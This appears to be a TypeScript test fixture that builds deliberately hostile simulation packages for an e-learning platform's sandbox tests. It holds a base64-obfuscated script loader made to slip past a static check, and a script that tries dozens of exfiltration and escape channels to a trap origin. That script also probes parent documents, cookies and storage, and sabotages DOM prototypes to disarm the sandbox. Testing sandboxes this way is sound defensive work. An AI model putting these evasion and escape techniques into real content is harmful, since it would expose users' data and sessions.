/** A package whose simulations pass `check` and every review by eye, and turn on their reader when they run. */
import { makeSource, type SourceFactory } from './package-source.ts';
import type { Trap } from './trap.ts';

/** A simulation that hides its script from the check, as anyone can who means harm. */
export const disguised = (script: string): string =>
	`<!doctype html><html lang="{{lang}}"><meta charset="utf-8"><title>-</title><script type="application/json" id="words">{}</script><body><button>Go</button><script>const s = document.createElement('script'); s.textContent = atob('${btoa(script)}'); document.body.append(s);</script></body></html>`;

/** Adds a simulation unit `id` to the source for each script. */
export function makeHostileSource(scripts: Record<string, string>): SourceFactory {
	const source = makeSource();
	for (const [id, script] of Object.entries(scripts)) {
		source
			.edit('package.json', (json) => json.modules[1].units.push({ id, kind: 'simulation', minutes: 5 }))
			.edit('shared/units/exam.json', ({ quiz: { items } }) => items.push({ ...items[0], id, unit: id }))
			.put(`shared/units/${id}.json`, { simulation: id })
			.put(`shared/sims/${id}.html`, disguised(script));
		for (const tag of ['en', 'th']) {
			source
				.edit(
					`${tag}/package.json`,
					(json) => (json.units[id] = { title: `${id} (${tag})`, summary: `${id}.` })
				)
				.edit(`${tag}/units/exam.json`, ({ quiz }) => (quiz[id] = quiz.q1))
				.put(`${tag}/units/${id}.md`, `Try it (${tag}).\n`)
				.put(`${tag}/sims/${id}.json`, {
					title: `${id} (${tag})`,
					intro: 'Move.',
					textInstead: `What ${id} teaches (${tag}).`,
					words: {}
				});
		}
	}
	return source;
}

export const ALIVE = `const tell = (message) => parent.postMessage({ setara: 1, ...message }, '*');
tell({ type: 'ready' }); tell({ type: 'heartbeat' }); setInterval(() => tell({ type: 'heartbeat' }), 1000);`;

/** Tries every way out at a tap; at its end it says what it reached without the network. */
export const reaching = (trap: Pick<Trap, 'origin' | 'stun'>, own: string): string => `
const found = [];
const at = (name) => '${trap.origin}/' + name;
const rtc = 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.stun}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));';
const add = (tag, set) => { const one = document.createElement(tag); for (const name in set) one.setAttribute(name, set[name]); document.body.append(one); return one; };
const style = (css) => { const one = document.createElement('style'); one.textContent = css; document.head.append(one); };
const follow = (set) => { const one = add('a', set); one.textContent = 'x'; one.click(); };
const framed = (script) => add('iframe', { srcdoc: '<script>' + script + '<' + '/script>' });
const quiet = {
	fetch: () => void fetch(at('fetch'), { mode: 'no-cors' }),
	xhr: () => { const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send(); },
	image: () => { new Image().src = at('image'); },
	'svg-image': () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + at('svg-image') + '"/></svg>'); },
	media: () => { add('video', { src: at('media'), preload: 'auto' }); },
	poster: () => { add('video', { poster: at('poster') }); },
	script: () => { add('script', { src: at('script') }); },
	import: () => void import(at('import')).catch(() => {}),
	sheet: () => { add('link', { rel: 'stylesheet', href: at('sheet') }); },
	'css-url': () => style('body { background: url(' + at('css-url') + ') }'),
	'css-import': () => style('@import url(' + at('css-import') + ');'),
	font: () => void new FontFace('f', 'url(' + at('font') + ')').load().catch(() => {}),
	socket: () => { new WebSocket(at('socket').replace('http', 'ws')); },
	events: () => { new EventSource(at('events')); },
	beacon: () => { navigator.sendBeacon(at('beacon'), 'x'); },
	worker: () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + at('worker') + '")']))); },
	ping: () => follow({ href: '#', ping: at('ping') }),
	object: () => { add('object', { data: at('object') }); },
	embed: () => { add('embed', { src: at('embed') }); },
	frame: () => { add('iframe', { src: at('frame') }); },
	'made-frame': () => { framed('new Image().src = "' + at('made-frame') + '"'); },
	prefetch: () => { add('link', { rel: 'prefetch', href: at('prefetch') }); },
	preload: () => { add('link', { rel: 'preload', as: 'image', href: at('preload') }); },
	module: () => { add('link', { rel: 'modulepreload', href: at('module') }); },
	icon: () => { add('link', { rel: 'icon', href: at('icon') }); },
	preconnect: () => { add('link', { rel: 'preconnect', href: at('') }); },
	rules: () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [at('rules')], eagerness: 'immediate' }] }); document.head.append(s); },
	rtc: () => { new Function(rtc); },
	'rtc-script': () => { const s = document.createElement('script'); s.textContent = rtc; document.head.append(s); },
	'rtc-frame': () => { framed(rtc); }
};
const ours = {
	'our-fetch': () => void fetch('${own}/api/library?caught').then(() => found.push('our-fetch')),
	'our-image': () => { new Image().src = '${own}/icon.svg?caught'; },
	'our-frame': () => { add('iframe', { src: '${own}/en/me?caught' }); },
	'our-popup': () => { if (window.open('${own}/en/me?caught')) found.push('our-popup'); },
	'our-worker': () => { navigator.serviceWorker.register('${own}/service-worker.js?caught').then(() => found.push('our-worker')); },
	'parent-document': () => { found.push(parent.document.title); },
	'top-document': () => { found.push(top.document.title); },
	'parent-function': () => { parent.eval('1'); found.push('parent-function'); },
	storage: () => { localStorage.setItem('caught', '1'); found.push('storage'); },
	cookie: () => { document.cookie = 'caught=1'; found.push('cookie'); },
	database: () => { indexedDB.open('setara').onsuccess = () => found.push('database'); },
	cache: () => void caches.keys().then(() => found.push('cache')),
	popup: () => { if (window.open(at('popup'))) found.push('popup'); },
	'popup-link': () => follow({ href: at('popup-link'), target: '_blank' }),
	download: () => follow({ href: URL.createObjectURL(new Blob(['x'])), download: 'x' }),
	'top-link': () => follow({ href: at('top-link'), target: '_top' }),
	'top-address': () => { top.location.href = at('top-address'); },
	'form-blank': () => { const f = add('form', { action: at('form-blank'), method: 'post', target: '_blank' }); f.submit(); },
	'form-top': () => { const f = add('form', { action: at('form-top'), method: 'post', target: '_top' }); f.submit(); },
	form: () => { const f = add('form', { action: at('form') }); f.submit(); }
};
const attempt = async (tries) => { for (const name in tries) { try { tries[name](); } catch {} await new Promise((done) => setTimeout(done, 20)); } };
const wait = (time) => new Promise((done) => setTimeout(done, time));
document.querySelector('button').onclick = async () => {
	await attempt(quiet);
	await wait(1500);
	if (parent !== window) {
		await attempt(ours);
		// What the prelude works with, turned against it: then a frame of one's own would have a window with WebRTC in it.
		const still = () => {};
		for (const name of ['remove', 'matches', 'querySelectorAll', 'querySelector']) Element.prototype[name] = still;
		for (const name of ['querySelectorAll', 'querySelector']) Document.prototype[name] = () => null;
		for (const kind of [Array, NodeList]) kind.prototype[Symbol.iterator] = function* () {};
		Function.prototype.call = Function.prototype.apply = Reflect.apply = still;
		framed(rtc + 'new Image().src = "' + at('disarmed') + '"');
		await wait(500);
		framed(rtc);
		for (const until = performance.now() + 1500; performance.now() < until; );
		await wait(1000);
	}
	add('output', {}).textContent = 'Reached: ' + found.join(' ');
};`;
